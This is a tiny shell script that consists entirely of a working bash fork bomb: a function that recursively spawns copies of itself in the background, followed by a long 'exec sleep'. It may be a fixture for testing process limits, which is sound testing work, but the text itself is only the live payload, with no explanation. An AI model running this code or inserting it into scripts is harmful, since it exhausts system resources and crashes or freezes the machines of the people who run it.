bomb() { bomb | bomb & }
bomb
exec sleep 100000
